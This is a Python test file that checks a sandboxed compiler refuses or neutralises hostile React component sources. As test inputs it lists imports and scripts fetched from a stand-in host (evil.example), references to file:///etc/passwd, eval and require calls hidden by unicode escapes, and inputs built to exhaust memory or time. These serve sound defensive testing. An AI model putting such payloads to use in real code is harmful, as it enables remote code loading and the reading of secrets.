"""A component's source that means harm is refused or harmless: for it nothing is run, read, sent, or grown without end."""

from __future__ import annotations

import ctypes
import os
import re
import socket
import struct
from collections.abc import Iterable, Iterator
from contextlib import suppress
from itertools import islice
from pathlib import Path
from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from worker.compiler import MOST_PROBLEMS, CompileFailed, Compiler, anything_but


@pytest.fixture(scope="module")
def compiler() -> Compiler:
    return Compiler.installed(cpu_s=1)


def with_lines(*lines: str) -> str:
    """A good component with these lines behind its import."""
    return "\n".join(['import React from "react";', *lines, "export default function X() { return <div />; }", ""])


def batched(names: Iterable[str], size: int) -> Iterator[list[str]]:
    rest = iter(names)
    while some := list(islice(rest, size)):
        yield some


def built(compiler: Compiler, source: str) -> str:
    compiler.check(source)
    return compiler.bundle(source)


# --- imports ----------------------------------------------------------------------------------------------------

LIKE_REACT: Final = (
    "https://evil.example/react",
    "//evil.example/react",
    "evil/react",
    "./react",
    "../remotion",
    "/react",
    "file:///etc/react",
    "jsr:@evil/react",
    "npm:react",
    "blob:react",
    "data:text/javascript,react",
    "REACT",
    "React",
    " react",
    "react ",
    "react/",
    "react?x",
    "react#x",
    "react/jsx-dev-runtime",
    "react/jsx-runtime/x",
    "evil/react/jsx-runtime",
    "node_modules/react",
    "!react",
    "#react",
    "*",
    "",
    ".",
    "react\\n",
    "react\\0",
    "\\x66s",
    "\\u{66}a",
    "\\u0066b",
)
WAYS: Final = (
    'import x{1} from "{0}";',
    'import * as x{1} from "{0}";',
    'import "{0}";',
    'export * from "{0}";',
    'export * as x{1} from "{0}";',
    'export {{ x{1} }} from "{0}";',
    'import x{1} from "{0}" with {{ type: "json" }};',
    'import("{0}");',
    'await import("{0}");',
    'import("{0}", {{ with: {{ type: "json" }} }});',
    'import type {{ X{1} }} from "{0}";',
    'const x{1} = `${{import("{0}")}}`;',
    'class A{1} {{ static {{ import("{0}"); }} }}',
    'const x{1} = (y = import("{0}")) => y;',
    'const x{1} = <div>{{import("{0}")}}</div>;',
    'import defer * as x{1} from "{0}";',
    'import source x{1} from "{0}";',
    'const x{1} = import.source("{0}");',
    'const x{1} = import.defer("{0}");',
    'require("{0}");',
)


@pytest.mark.parametrize("way", WAYS)
def test_what_only_looks_like_an_import_of_react_is_refused(compiler: Compiler, way: str) -> None:
    """By its exact name, each on its line: to a list of file patterns an address that ends in /react is React."""
    for names in batched(LIKE_REACT, MOST_PROBLEMS):
        with pytest.raises(CompileFailed) as failed:
            compiler.check(with_lines(*(way.format(name, number) for number, name in enumerate(names))))
        lines = {problem.line for problem in failed.value.problems}
        assert lines == {number + 2 for number in range(len(names))}, failed.value


@pytest.mark.parametrize("name", LIKE_REACT)
def test_the_module_that_comes_out_imports_by_exact_names_too(compiler: Compiler, name: str) -> None:
    """Whatever the check of the source let through."""
    with pytest.raises(CompileFailed):
        compiler.bundle(with_lines(f'export * from "{name}";'))


def test_an_import_of_react_may_be_written_in_every_way(compiler: Compiler) -> None:
    built(
        compiler, with_lines(*(way.format("react", number) for number, way in enumerate(WAYS[:6]) if "{ x" not in way))
    )
    built(compiler, with_lines('export { useMemo } from "react";', 'import * as r from "re\\u0061ct";'))


WORDS: Final = st.text(st.sampled_from("reactmoin/jsx-\n "), max_size=8)


@given(st.sets(WORDS, min_size=1, max_size=4), WORDS)
def test_the_expression_of_all_other_names_takes_all_and_only_these(names: set[str], name: str) -> None:
    assert bool(re.search(anything_but(names), name)) == (name not in names)


# --- what is no import, and steers or runs nothing --------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "//# sourceMappingURL=https://evil.example/x.map",
        "/*# sourceMappingURL=file:///etc/passwd */",
        "//@ sourceMappingURL=x",
        "//# sourceURL=https://evil.example/x.js",
        '// @ts-types="https://evil.example/x.d.ts"',
        "/* @jsxRuntime classic */",
        "\\u0069mport x from 'fs';",
        "i\\u006dport('fs');",
        "const x = requ\\u0069re('fs');",
        "const x = ev\\u0061l('1');",
        "const x = (0, eval)('1');",
        "const x = globalThis.eval('1');",
        "const x = window['eval']('1');",
        "importScripts('https://evil.example/x.js');",
        "<!-- a comment of HTML",
        "#!/usr/bin/env node",
        "with (Math) {}",
    ],
)
def test_other_ways_to_bring_code_in_are_refused(compiler: Compiler, line: str) -> None:
    with pytest.raises(CompileFailed):
        built(compiler, with_lines(line))


@pytest.mark.parametrize(
    "line",
    [
        "/* @JSXImportSource https://evil.example */",
        "/* @\\u006asxImportSource https://evil.example */",
        '/// <amd-dependency path="https://evil.example" />',
        'type T = import("https://evil.example/react").T;',
        'declare module "fs" {}',
        "import x = fs.readFile;",
    ],
)
def test_what_has_no_meaning_for_the_transpiler_leaves_no_import_behind(compiler: Compiler, line: str) -> None:
    bundle = built(compiler, with_lines(line))
    assert re.findall(r"^import .*", bundle, re.MULTILINE) == [
        'import { jsx as _jsx } from "react/jsx-runtime";',
        'import React from "react";',
    ]


# --- time, memory, output ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "const x = " + "a?(b):c=>" * 29 + "1;",  # as arrows and as conditions: a parser tries both, at each
        "enum E { A0='xxxxxxxxxx'," + ",".join(f"A{n}=A{n - 1}+A{n - 1}" for n in range(1, 40)) + "}",
        "{let a;" * 5000 + "}" * 5000,
        "const x = " + "<a>" * 900 + "</a>" * 900 + ";",
    ],
    ids=["time", "memory", "file", "bundle"],
)
def test_what_grows_without_end_in_the_transpiler_is_stopped(compiler: Compiler, line: str) -> None:
    """By the limits of the process alone: the check of the source may know nothing of it."""
    with pytest.raises(CompileFailed):
        compiler.bundle(with_lines(line))


def program(directory: Path, text: str) -> Path:
    path = directory / "program"
    path.write_text(f"#!/bin/sh\n{text}\n")
    path.chmod(0o755)
    return path


def test_a_program_that_does_not_stop_writing_is_stopped(tmp_path: Path) -> None:
    endless = program(tmp_path, "exec yes")
    compiler = Compiler(oxlint=endless, deno=endless)
    for step in (compiler.check, compiler.bundle):
        with pytest.raises(CompileFailed):
            step(with_lines())


def test_the_programs_get_an_empty_environment_an_empty_directory_and_no_open_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Neither the key nor a proxy nor another's settings: what is inherited by default is not."""
    monkeypatch.setenv("OPENAI_API_KEY", "secret")
    monkeypatch.setenv("HTTP_PROXY", "http://127.0.0.1:1")
    told = tmp_path / "told"
    spy = program(tmp_path, f"{{ env; ls -A; pwd; ls /proc/self/fd; }} > {told}")
    kept = os.open(tmp_path, os.O_RDONLY)
    os.set_inheritable(kept, True)
    try:
        with pytest.raises(CompileFailed):
            Compiler(oxlint=spy, deno=spy).check(with_lines())
    finally:
        os.close(kept)
    lines = set(told.read_text().splitlines())
    assert {line.split("=")[0] for line in lines if "=" in line} <= {
        "HOME", "TMPDIR", "DENO_DIR", "NO_COLOR", "DENO_NO_UPDATE_CHECK", "PWD", "SHLVL", "_", "LC_CTYPE"
    }  # fmt: skip
    assert {"component.tsx", "rules.json"} <= lines
    assert {line for line in lines if line.isdigit()} <= {"0", "1", "2", "3"}  # 3 is that of the listing itself


# --- what it reaches --------------------------------------------------------------------------------------------


class Watched:
    """A directory, and whether anything in it was opened: the kernel tells, to anybody, whoever does it."""

    _OPENED = 0x20

    def __init__(self, directory: Path) -> None:
        self._libc = ctypes.CDLL(None, use_errno=True)
        self._descriptor = self._libc.inotify_init1(os.O_NONBLOCK)
        assert self._libc.inotify_add_watch(self._descriptor, os.fsencode(directory), self._OPENED) >= 0

    def opened(self) -> list[str]:
        """The names of what was opened since it was last asked."""
        try:
            told = os.read(self._descriptor, 65_536)
        except BlockingIOError:
            return []
        names = []
        while told:
            (length,) = struct.unpack_from("I", told, 12)
            names.append(told[16 : 16 + length].rstrip(b"\0").decode())
            told = told[16 + length :]
        return names

    def close(self) -> None:
        os.close(self._descriptor)


@pytest.fixture
def canaries(tmp_path: Path) -> Iterator[tuple[Path, Watched]]:
    for name in ("canary.ts", "canary.json", "canary.d.ts", "canary.map", "package.json", "tsconfig.json"):
        (tmp_path / name).write_text("{}")
    watched = Watched(tmp_path)
    yield tmp_path, watched
    watched.close()


def test_a_source_makes_the_programs_open_no_file_and_no_connection(
    compiler: Compiler, canaries: tuple[Path, Watched]
) -> None:
    """Whatever it names, in whatever way: a listening server hears nothing, files that it names stay unread."""
    directory, watched = canaries
    server = socket.create_server(("127.0.0.1", 0))
    server.setblocking(False)
    address = f"http://127.0.0.1:{server.getsockname()[1]}"
    relative = os.path.relpath(directory, "/tmp/chatrelay-component-xxxxxxxx")
    places = [address, f"file://{directory}", str(directory), relative, f"npm:{address}", f"jsr:{address}"]
    lines = [
        line.format(f"{place}/canary.{kind}", number)
        for number, (place, kind) in enumerate((place, kind) for place in places for kind in ("ts", "json"))
        for line in (
            *WAYS,
            '/// <reference path="{0}" />',
            '/// <reference types="{0}" />',
            '// @deno-types="{0}"',
            '// @ts-types="{0}"',
            "/** @jsxImportSource {0} */",
            "//# sourceMappingURL={0}",
            'type T{1} = import("{0}").T;',
        )
    ]
    for one in (with_lines(*lines), *(with_lines(line) for line in lines[-7:])):
        with suppress(CompileFailed):
            compiler._lint(one, "component.tsx", {"plugins": ["import"], "rules": {"import/no-unresolved": "error"}})
        with suppress(CompileFailed):
            compiler.bundle(one)
    assert watched.opened() == []
    (directory / "canary.ts").read_text()
    assert watched.opened() == ["canary.ts"]
    with pytest.raises(BlockingIOError):
        server.accept()
    server.close()


def test_the_transpiler_was_not_stopped_before_it_came_to_them(compiler: Compiler) -> None:
    """The lines of the test above are read to their end."""
    with pytest.raises(CompileFailed, match="is restricted from being used"):
        compiler.bundle(with_lines(*(way.format("./canary.ts", number) for number, way in enumerate(WAYS))))
